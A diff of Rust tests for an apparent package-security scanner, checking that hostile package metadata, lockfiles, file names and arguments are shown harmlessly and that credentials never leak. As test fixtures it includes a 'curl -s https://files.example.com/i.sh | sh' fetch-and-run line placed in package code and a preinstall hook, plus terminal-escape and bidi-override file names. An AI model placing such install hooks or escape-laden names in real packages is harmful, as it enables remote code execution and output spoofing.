@@ -18,9 +18,21 @@ fn raw(text: &str) -> Option<char> {
 /// Hostile text wherever a registry, an advisory, an archive or a lockfile can put it.
 fn hostile_lab() -> Lab {
     let lab = Lab::new();
-    let bad = dropper("bad", "1.0.0").publisher(HOSTILE).maintainers(&[HOSTILE]).deprecated(HOSTILE).repository(HOSTILE).field("description", HOSTILE);
-    let code = format!("require('child_process').exec('curl -s https://files.example.com/i.sh | sh'); // {}\n", HOSTILE.replace(['\r', '\n'], " "));
-    lab.upstream.publish(bad.file("we\u{1b}[31mird\u{202e}.js", code.clone()).file("index.js", code).script("preinstall", &format!("curl -s https://files.example.com/i.sh | sh # {HOSTILE}")));
+    let bad = dropper("bad", "1.0.0")
+        .publisher(HOSTILE)
+        .maintainers(&[HOSTILE])
+        .deprecated(HOSTILE)
+        .repository(HOSTILE)
+        .field("description", HOSTILE);
+    let code = format!(
+        "require('child_process').exec('curl -s https://files.example.com/i.sh | sh'); // {}\n",
+        HOSTILE.replace(['\r', '\n'], " ")
+    );
+    lab.upstream.publish(
+        bad.file("we\u{1b}[31mird\u{202e}.js", code.clone())
+            .file("index.js", code)
+            .script("preinstall", &format!("curl -s https://files.example.com/i.sh | sh # {HOSTILE}")),
+    );
     let yanked = PythonPackage::wheel("yanked", "1.0").published("2020-01-01T00:00:00Z").build();
     lab.upstream.publish(yanked);
     lab.upstream.edit(|catalogue| catalogue.yank(&Release::new(Ecosystem::Pypi, "yanked", "1.0").unwrap(), Some(HOSTILE)));
@@ -70,7 +82,10 @@ fn hostile_text_reaches_no_reader_as_it_is() {
 fn a_hostile_lockfile_that_is_refused_is_quoted_harmlessly() {
     let lab = Lab::new();
     let address = format!("git+ssh://git@git.example/{HOSTILE}.git#0123456789abcdef0123456789abcdef01234567");
-    lab.write("package-lock.json", json!({ "lockfileVersion": 3, "packages": { "node_modules/g": { "version": "1.0.0", "resolved": address } } }).to_string());
+    lab.write(
+        "package-lock.json",
+        json!({ "lockfileVersion": 3, "packages": { "node_modules/g": { "version": "1.0.0", "resolved": address } } }).to_string(),
+    );
     let run = lab.run(&["check"]).expect(2).complains(&["package-lock.json:1", "git.example"]);
     assert_eq!(raw(&run.stderr), None, "{:?}", run.stderr);
 }
@@ -90,7 +105,14 @@ fn hostile_file_names_and_code_are_harmless_in_a_scan() {
 fn hostile_arguments_are_harmless_in_errors() {
     let lab = Lab::new();
     let name = "no\u{1b}[31m\u{202e}where";
-    for arguments in [vec!["check", name], vec!["check", "pkg:npm/\u{1b}[31mx@1"], vec!["check", "--policy", name], vec!["--config", name, "check"], vec!["feed", "update", name], vec!["scan", "--files-from", name]] {
+    for arguments in [
+        vec!["check", name],
+        vec!["check", "pkg:npm/\u{1b}[31mx@1"],
+        vec!["check", "--policy", name],
+        vec!["--config", name, "check"],
+        vec!["feed", "update", name],
+        vec!["scan", "--files-from", name],
+    ] {
         let run = lab.run(&arguments);
         assert!(matches!(run.code, Some(2 | 3)), "{arguments:?}: {run}");
         assert_eq!(raw(&run.stderr), None, "{arguments:?}: {:?}", run.stderr);
@@ -170,7 +192,8 @@ fn secretive() -> (Lab, Vec<String>) {
     }
     let vars: ClientEnvironment = lab.upstream.environment(&lab.beside("secretive"));
     lab.environment = vars;
-    let purls = [Ecosystem::Npm, Ecosystem::Pypi, Ecosystem::Cargo, Ecosystem::Maven].map(|ecosystem| world.newest(ecosystem, 0).purl()).to_vec();
+    let purls =
+        [Ecosystem::Npm, Ecosystem::Pypi, Ecosystem::Cargo, Ecosystem::Maven].map(|ecosystem| world.newest(ecosystem, 0).purl()).to_vec();
     (lab, purls)
 }
 
@@ -193,7 +216,14 @@ fn secrets_are_used_and_never_shown() {
     check(&[]).expect(0);
     quiet(lab.run(&["doctor", "-vv"])).expect(0).says(&["with credentials"]);
     quiet(lab.run(&["doctor", "--format", "json"])).expect(0);
-    for fault in [Fault::status(500), Fault::status(403), Fault::status(401), Fault::invalid_json(), Fault::truncate(3), Fault::redirect(bifocal_testkit::RedirectTo::Itself)] {
+    for fault in [
+        Fault::status(500),
+        Fault::status(403),
+        Fault::status(401),
+        Fault::invalid_json(),
+        Fault::truncate(3),
+        Fault::redirect(bifocal_testkit::RedirectTo::Itself),
+    ] {
         lab.upstream.clear_faults();
         lab.upstream.fault("*", fault);
         check(&["--no-cache"]).expect(3);
